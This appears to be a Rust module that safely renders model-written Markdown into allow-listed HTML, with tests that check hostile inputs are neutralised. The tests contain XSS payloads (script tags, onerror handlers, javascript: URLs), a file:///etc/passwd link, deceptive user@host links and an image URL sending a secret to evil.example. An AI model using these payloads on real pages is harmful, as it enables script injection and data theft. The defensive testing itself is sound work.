//! Markdown as elements of an allow-list. The text is never HTML on its way: what looks like HTML in it is shown as text.

use maud::{Markup, html};
use pulldown_cmark::{CodeBlockKind, Event, HeadingLevel, Options, Parser, Tag, TextMergeStream};

use super::{Body, media, message::boundary};
use crate::{
    print::bytes,
    viewer::text::{plain, text},
};

/// Quotes and lists that are deeper than this are shown as text.
const MAX_DEPTH: usize = 24;

/// Renders a text of a model.
pub(super) fn markdown(source: &str, body: &Body) -> Markup {
    body.bytes(source.len());
    let options = Options::ENABLE_TABLES | Options::ENABLE_STRIKETHROUGH | Options::ENABLE_TASKLISTS;
    let mut events = TextMergeStream::new(Parser::new_ext(source, options));
    html! { div.markdown { (inside(&mut events, body, 0)) } }
}

/// What stands in an element, up to its end.
fn inside<'a>(events: &mut impl Iterator<Item = Event<'a>>, body: &Body, depth: usize) -> Markup {
    let mut pieces = Vec::new();
    while let Some(event) = events.next() {
        pieces.push(match event {
            Event::End(_) => break,
            Event::Start(_) if depth >= MAX_DEPTH || !body.element() => flat(events),
            Event::Start(tag) => element(tag, events, body, depth + 1),
            Event::Code(code) if body.element() => html! { code { (text(&code)) } },
            Event::HardBreak if body.element() => html! { br; },
            Event::Rule if body.element() => html! { hr; },
            Event::TaskListMarker(is_done) => html! { (if is_done { "☑ " } else { "☐ " }) },
            other => html! { (text(said(&other))) },
        });
    }
    html! { @for piece in &pieces { (piece) } }
}

/// The text of an element that is not made.
fn flat<'a>(events: &mut impl Iterator<Item = Event<'a>>) -> Markup {
    html! { (text(&words(events))) " " }
}

/// What stands in an element, as a text alone.
fn words<'a>(events: &mut impl Iterator<Item = Event<'a>>) -> String {
    let (mut depth, mut all) = (1, String::new());
    for event in events {
        match &event {
            Event::Start(_) => depth += 1,
            Event::End(_) => depth -= 1,
            other => all.push_str(said(other)),
        }
        if depth == 0 {
            break;
        }
    }
    all
}

fn said<'a>(event: &'a Event<'_>) -> &'a str {
    match event {
        Event::Text(said) | Event::Code(said) | Event::Html(said) | Event::InlineHtml(said) => said,
        _ => "\n",
    }
}

fn element<'a>(tag: Tag<'a>, events: &mut impl Iterator<Item = Event<'a>>, body: &Body, depth: usize) -> Markup {
    match tag {
        Tag::Image { dest_url, .. } => return image(&dest_url, &words(events), body),
        Tag::CodeBlock(kind) => return code(&kind, &inside(events, body, depth), body),
        _ => {}
    }
    let inner = inside(events, body, depth);
    match tag {
        Tag::Paragraph => html! { p { (inner) } },
        // The page has headings of its own above.
        Tag::Heading { level: HeadingLevel::H1, .. } => html! { h4 { (inner) } },
        Tag::Heading { level: HeadingLevel::H2, .. } => html! { h5 { (inner) } },
        Tag::Heading { .. } => html! { h6 { (inner) } },
        Tag::BlockQuote(_) => html! { blockquote { (inner) } },
        Tag::List(Some(1)) => html! { ol { (inner) } },
        Tag::List(Some(start)) => html! { ol start=(start.min(1_000_000_000)) { (inner) } },
        Tag::List(None) => html! { ul { (inner) } },
        Tag::Item => html! { li { (inner) } },
        Tag::Table(_) => html! { div.wide tabindex="0" { table { (inner) } } },
        Tag::TableHead => html! { thead { tr { (inner) } } },
        Tag::TableRow => html! { tr { (inner) } },
        Tag::TableCell => html! { td { (inner) } },
        Tag::Emphasis => html! { em { (inner) } },
        Tag::Strong => html! { strong { (inner) } },
        Tag::Strikethrough => html! { s { (inner) } },
        Tag::Link { dest_url, .. } => link(&dest_url, &inner, body),
        Tag::HtmlBlock => html! { pre.said { (inner) } },
        _ => inner,
    }
}

fn code(kind: &CodeBlockKind<'_>, inner: &Markup, body: &Body) -> Markup {
    let language = match kind {
        CodeBlockKind::Fenced(info) => info.split([' ', ',', '{']).next().unwrap_or_default(),
        CodeBlockKind::Indented => "",
    };
    html! {
        figure.code {
            figcaption {
                span { (text(language)) }
                @if !body.is_file { button type="button" data-copy="code" { "copy" } }
            }
            pre tabindex="0" { code { (inner) } }
        }
    }
}

/// Bytes of an address; of a longer one the beginning is shown, and it leads nowhere.
const MAX_URL: usize = 4_000;

/// A link that shows where it goes; anything but the web and mail is text.
pub(super) fn link(url: &str, inner: &Markup, body: &Body) -> Markup {
    let Some(target) = target(url).filter(|_| !body.is_file && url.len() <= MAX_URL) else {
        return html! { (inner) " " span.target { (begin(url)) } };
    };
    html! {
        a href=(url) title=(plain(url)) rel="noopener noreferrer nofollow" target="_blank" { (inner) }
        " " span.target { (text(target)) }
    }
}

/// As much of an address as is shown.
pub(super) fn begin(url: &str) -> Markup {
    let end = boundary(url, MAX_URL);
    html! { (text(url.get(..end).unwrap_or_default())) @if end < url.len() { " … " (bytes(url.len() as u64)) " in all" } }
}

/// Where a link goes: the host, or the address of a mail.
fn target(url: &str) -> Option<&str> {
    let (scheme, rest) = url.split_once(':')?;
    if scheme.eq_ignore_ascii_case("mailto") {
        return Some(rest.split('?').next().unwrap_or(rest));
    }
    let is_web = scheme.eq_ignore_ascii_case("http") || scheme.eq_ignore_ascii_case("https");
    // Browsers end the host at a backslash too.
    let host = rest.strip_prefix("//").filter(|_| is_web)?.split(['/', '?', '#', '\\']).next()?;
    Some(host.rsplit('@').next().unwrap_or(host)).filter(|host| !host.is_empty())
}

/// A picture that stands in the text is shown; one from elsewhere would tell a stranger that the text was read.
fn image(url: &str, alt: &str, body: &Body) -> Markup {
    if let Some(own) = media::data_image(url) {
        return html! { img src=(own) alt=(plain(alt)); };
    }
    html! { span.elsewhere { "picture " (link(url, &html! { "“" (text(alt)) "”" }, body)) } }
}

#[cfg(test)]
mod tests {
    use super::{super::As, *};

    fn shown(source: &str) -> String {
        markdown(source, &Body::loose(As::Markdown)).into_string()
    }

    #[test]
    fn markdown_becomes_elements() {
        let html =
            shown("# Plan\n\n- **one**\n- `two`\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```rust\nlet x = \"<\";\n```\n");
        for wanted in ["<h4>Plan</h4>", "<strong>one</strong>", "<code>two</code>", "<td>1</td>", "<span>rust</span>"] {
            assert!(html.contains(wanted), "{wanted} in {html}");
        }
        assert!(html.contains("let x = &quot;&lt;&quot;;"));
    }

    #[test]
    fn what_looks_like_html_is_text() {
        let html = shown("<script>alert(1)</script>\n\na <img src=x onerror=alert(1)> b");
        assert!(!html.contains("<script") && !html.contains("<img"), "{html}");
        assert!(html.contains("&lt;script&gt;alert(1)"));
    }

    #[test]
    fn links_go_to_the_web_alone_and_say_where() {
        assert!(shown("[bank](https://bank.example@evil.example/x)").contains("evil.example</span>"));
        assert!(shown("[b](https://evil.example\\\\@bank.example/)").contains(">evil.example</span>"));
        for url in
            ["javascript:alert(1)", "data:text/html,x", "vbscript:x", "//evil.example", "/stats", "file:///etc/passwd"]
        {
            assert!(!shown(&format!("[x]({url})")).contains("<a "), "{url}");
        }
    }

    #[test]
    fn pictures_are_never_fetched_from_elsewhere() {
        let html = shown("![secret](https://evil.example/?q=secret)");
        assert!(!html.contains("<img") && html.contains("evil.example"));
        assert!(!shown("![x](data:image/svg+xml;base64,PHN2Zy8+)").contains("<img"));
    }

    #[test]
    fn a_picture_is_called_what_it_was_called() {
        let html = shown("![a *\"b\"* & <i>](data:image/gif;base64,R0lGODlhAQABAAAAACw=)");
        assert!(html.contains("alt=\"a &quot;b&quot; &amp; &lt;i&gt;\""), "{html}");
        let html = shown("![a & b](https://other.example/x.png)");
        assert!(html.contains("“a &amp; b”"), "{html}");
    }

    #[test]
    fn no_text_makes_a_page_heavy() {
        let html = shown(&"> ".repeat(5_000));
        assert!(html.len() < 100_000);
        let html = shown(&"* `x` *y*\n".repeat(5_000));
        assert!(html.matches('<').count() < 3 * super::super::ELEMENTS, "{}", html.matches('<').count());
    }
}
